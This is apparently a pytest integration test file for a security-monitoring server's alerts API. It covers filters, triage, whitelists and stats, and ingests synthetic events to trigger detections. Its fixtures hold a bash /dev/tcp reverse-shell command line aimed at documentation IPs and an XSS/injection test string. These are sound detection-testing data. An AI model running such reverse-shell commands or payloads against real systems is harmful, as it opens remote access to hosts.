"""The alerts API on SQLite and PostgreSQL: lists and filters, one alert, triage, whitelists, figures."""

from __future__ import annotations

import time

import anyio
import pytest

from tests.integration._manager import check_schema
from tests.unit.server._inproc import anonymous_client, api_client, ingest, running_server

pytestmark = pytest.mark.anyio

HOSTILE = "<img src=x onerror=alert(1)> \"'`${x} %s \\u0000 ☃ \u202e 𝕏"
SHELL = {"pid": "200", "ppid": "100", "exe": "/usr/bin/bash", "pid_tree": "200.bash<100.nginx<1.systemd", "p_exe": "/usr/sbin/nginx",
         "argv": "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}  # fmt: skip


async def wait_for(api, predicate, path: str = "/api/v1/alerts", params=None, timeout: float = 20):
    with anyio.fail_after(timeout):
        while True:
            r = await api.get(path, params=params)
            assert r.status_code == 200, r.text
            if predicate(r.json()):
                return r.json()
            await anyio.sleep(0.05)


@pytest.fixture
async def server(tmp_path, db_url):
    async with running_server(tmp_path / "srv", db_url=db_url) as ctx:
        await ingest(ctx, "web-1", [
            [(59, {"pid": "100", "ppid": "1", "exe": "/usr/sbin/nginx", "argv": "nginx: worker process"})],
            [(59, SHELL)],
            [(59, dict(SHELL, argv=f"bash -i >& /dev/tcp/203.0.113.9/1 0>&1 {HOSTILE}", p_exe="/usr/bin/tmux"))],
        ], hostname="web-1")  # fmt: skip
        await ingest(ctx, "db-1", [[(4000, {"status": "false", "user": "root", "sip": "198.51.100.7",
                                             "types": "password"})] * 10], hostname="db-1")  # fmt: skip
        async with api_client(ctx, "viewer") as viewer, api_client(ctx, "analyst") as analyst, \
                api_client(ctx) as admin:  # fmt: skip
            await wait_for(viewer, lambda b: b["total"] >= 4)
            r = await admin.get("/api/v1/openapi.json")
            yield ctx, viewer, analyst, admin, r.json()


async def test_list_filters_and_shapes(server):
    ctx, viewer, _, _, doc = server
    body = (await viewer.get("/api/v1/alerts")).json()
    check_schema(doc, "AlertList", body)
    rules = sorted(a["rule_id"] for a in body["items"])
    assert rules.count("reverse_shell_dev_tcp") == 2 and "ssh_bruteforce_single_source" in rules
    assert "webserver_spawns_shell" in rules
    r = await viewer.get("/api/v1/alerts", params={"severity": "high", "agent_id": "db-1"})
    [brute] = r.json()["items"]
    assert brute["rule_id"] == "ssh_bruteforce_single_source" and brute["hostname"] == "db-1"
    assert brute["frequency"]["value"] == 10 and brute["frequency"]["group"]["sip"] == "198.51.100.7"
    r = await viewer.get("/api/v1/alerts", params={"rule_id": "reverse_shell_dev_tcp", "q": "203.0.113.9",
                                                   "sort": "first_seen", "order": "asc", "page_size": 1})  # fmt: skip
    [hostile] = r.json()["items"]
    assert hostile["event"]["argv"].endswith(HOSTILE)  # returned verbatim, as data
    r = await viewer.get("/api/v1/alerts", params={"hostname": "WEB", "status": "open,acknowledged",
                                                   "since": time.time() - 3600, "until": time.time() + 5})  # fmt: skip
    assert r.json()["total"] == 3 and {a["agent_id"] for a in r.json()["items"]} == {"web-1"}


BAD_QUERIES = [
    ({"page_size": 100000}, "page_size must be between 1 and 500"),
    ({"page": 0}, "page must be between 1 and 1000000"),
    ({"page_size": "-1"}, "page_size must be between 1 and 500"),
    ({"page_size": "1e9"}, "page_size must be an integer"),
    ({"severity": "urgent"}, "must be one of info, low, medium, high, critical"),
    ({"status": "closed"}, "must be one of open, acknowledged, resolved, false_positive"),
    ({"sort": "hostname"}, "must be one of"),
    ({"since": "10", "until": "5"}, "since (10) is after until (5)"),
    ({"since": "nan"}, "must be a number"),
    ({"q": "x" * 300}, "too long"),
    ({"rule_id": "a b"}, "is not valid"),
    ({"agent_id": "../etc"}, "is not valid"),
    ({"colour": "red"}, "unknown query parameter 'colour'"),
]  # fmt: skip


async def test_bad_list_queries_are_clear_400s(server):
    _, viewer, *_ = server
    for params, message in BAD_QUERIES:
        r = await viewer.get("/api/v1/alerts", params=params)
        assert r.status_code == 400 and message in r.json()["error"]["message"], (params, r.text)
    for params, message in BAD_QUERIES + [({"page": 1}, "unknown query parameter 'page'")]:
        if {"page_size", "sort"} & set(params) or params == {"page": 0}:
            continue  # the facets take the list's filters, not its paging or order
        r = await viewer.get("/api/v1/alerts/facets", params=params)
        assert r.status_code == 400 and message in r.json()["error"]["message"], (params, r.text)


async def test_facet_counts_leave_out_their_own_filter(server):
    _, viewer, _, _, doc = server
    everything = (await viewer.get("/api/v1/alerts/facets")).json()
    check_schema(doc, "AlertFacets", everything)
    assert sum(everything["status"].values()) == sum(everything["severity"].values()) == 4
    assert everything["status"]["open"] == 4 and everything["severity"]["critical"] == 2
    r = await viewer.get("/api/v1/alerts/facets", params={"severity": "critical", "status": "resolved", "hostname": "web"})
    narrowed = r.json()
    assert narrowed["status"]["open"] == 2  # the critical ones on web-1, whatever their status
    assert narrowed["severity"] == {"info": 0, "low": 0, "medium": 0, "high": 0, "critical": 0}  # none resolved
    async with anonymous_client(server[0]) as anon:
        assert (await anon.get("/api/v1/alerts/facets")).status_code == 401


async def test_one_alert_in_full(server):
    _, viewer, _, _, doc = server
    [item] = (await viewer.get("/api/v1/alerts", params={"rule_id": "webserver_spawns_shell"})).json()["items"]
    alert = (await viewer.get(f"/api/v1/alerts/{item['id']}")).json()
    check_schema(doc, "Alert", alert)
    assert [(c["pid"], c["exe"], c["source"]) for c in alert["process_chain"]] == [
        ("200", "/usr/bin/bash", "event"), ("100", "/usr/sbin/nginx", "execve"), ("1", "", "pid_tree")]
    assert alert["rule"]["file"] == "<default>/execution.yaml" and alert["rule"]["line"] > 0
    assert alert["attack"] == ["T1505.003", "T1190"] and alert["rule_name"].startswith("Web server") and alert["history"] == []
    for bad in (999999, 2**64):
        r = await viewer.get(f"/api/v1/alerts/{bad}")
        assert r.status_code == 404 and "no alert with id" in r.json()["error"]["message"]
    assert (await viewer.get("/api/v1/alerts/abc")).status_code == 404
    async with anonymous_client(server[0]) as anon:
        assert (await anon.get(f"/api/v1/alerts/{item['id']}")).status_code == 401


async def test_triage_with_history_roles_and_bad_transitions(server):
    ctx, viewer, analyst, admin, doc = server
    [item] = (await viewer.get("/api/v1/alerts", params={"agent_id": "db-1"})).json()["items"]
    path = f"/api/v1/alerts/{item['id']}/status"
    r = await viewer.post(path, json={"status": "acknowledged"})
    assert r.status_code == 403
    r = await analyst.post(path, json={"status": "acknowledged", "comment": "looking " + HOSTILE})
    assert r.status_code == 200 and r.json()["status"] == "acknowledged"
    check_schema(doc, "Alert", r.json())
    r = await analyst.post(path, json={"status": "resolved", "comment": "blocked at the firewall"})
    assert r.status_code == 200
    r = await analyst.post(path, json={"status": "acknowledged"})
    assert r.status_code == 409 and r.json()["error"]["message"] == "an alert that is resolved can go to open, not acknowledged"
    for body, message in [({"status": "closed"}, "must be one of"), ({}, "field status is required"),
                          ({"status": "open", "comment": "x" * 5000}, "too long"),
                          ({"status": "open", "comment": "a\0b"}, "must not contain NUL"),
                          ({"status": "open", "who": "me"}, "unknown field 'who'")]:  # fmt: skip
        r = await analyst.post(path, json=body)
        assert r.status_code == 400 and message in r.json()["error"]["message"], r.text
    r = await analyst.post(path, content=b"not json", headers={"Content-Type": "application/json"})
    assert r.status_code == 400
    history = (await viewer.get(f"/api/v1/alerts/{item['id']}")).json()["history"]
    assert [(h["by"].split("-")[0], h["from"], h["to"], h["comment"]) for h in history] == [
        ("analyst", "open", "acknowledged", "looking " + HOSTILE), ("analyst", "acknowledged", "resolved",
                                                                   "blocked at the firewall")]  # fmt: skip
    audit = (await admin.get("/api/v1/audit", params={"action": "alerts.change_status"})).json()["items"]
    assert [(a["outcome"], a["detail"].get("to")) for a in audit][-2:] == [("ok", "acknowledged"), ("denied", None)]


async def test_whitelist_from_alert_silences_the_next_matching_event(server):
    ctx, viewer, analyst, admin, doc = server
    [item] = (await viewer.get("/api/v1/alerts", params={"rule_id": "webserver_spawns_shell"})).json()["items"]
    path = f"/api/v1/alerts/{item['id']}/whitelist"
    for body, status, message in [
        ({"fields": ["nope"]}, 400, "field 'nope' is not in the alert's event"),
        ({"scope": "all"}, 400, "needs at least one field"),
        ({"fields": ["bad name"]}, 400, "is not valid"),
        ({"scope": "planet"}, 400, "must be one of host, all"),
    ]:  # fmt: skip
        r = await analyst.post(path, json=body)
        assert r.status_code == status and message in r.json()["error"]["message"], r.text
    assert (await viewer.post(path, json={"fields": ["exe"]})).status_code == 403
    r = await analyst.post(path, json={"fields": ["exe", "p_exe"] if item["event"].get("p_exe") else ["exe"],
                                       "comment": "nginx health check", "status": "false_positive"})  # fmt: skip
    assert r.status_code == 200, r.text
    result = r.json()
    check_schema(doc, "WhitelistResult", result)
    assert result["file"].startswith("whitelists/wl.webserver_spawns_shell.") and result["reload"]["ok"]
    assert result["whitelist"]["suppresses"] == ["webserver_spawns_shell"]
    assert result["alert"]["status"] == "false_positive"
    files = (await viewer.get("/api/v1/rules/files")).json()["items"]
    assert [f["kind"] for f in files] == ["whitelist"]
    # The same event again: silenced (a fresh alert would be made, the old one being a false positive).
    await ingest(ctx, "web-1", [[(59, SHELL)]])
    status = await wait_for(viewer, lambda s: s["runner"]["records"] >= 5, "/api/v1/engine/status")
    rule = (await viewer.get("/api/v1/rules/webserver_spawns_shell")).json()
    assert rule["suppressed"] == 1 and rule["alerts"] == 1
    wl = (await viewer.get(f"/api/v1/rules/{result['whitelist']['id']}")).json()
    assert wl["kind"] == "whitelist" and wl["hits"] == 1 and wl["file"] == "<api>/" + result["file"]
    assert status["rules"]["running"]["whitelists"] == 1


async def test_overview_figures(server):
    _, viewer, _, _, doc = server
    r = await viewer.get("/api/v1/alerts/stats", params={"bucket": 600})
    stats = r.json()
    check_schema(doc, "AlertStats", stats)
    assert len(stats["series"]) in (144, 145) and sum(stats["by_severity"].values()) == 4
    assert stats["live_by_severity"]["critical"] == 2
    assert {h["agent_id"] for h in stats["top_hosts"]} == {"web-1", "db-1"}
    for params, message in [({"bucket": 1}, "bucket must be between 60"), ({"since": 0, "bucket": 60}, "buckets asked for"),
                            ({"since": 10, "until": 5}, "is after until"), ({"top": 1000}, "top must be between")]:  # fmt: skip
        r = await viewer.get("/api/v1/alerts/stats", params=params)
        assert r.status_code == 400 and message in r.json()["error"]["message"]
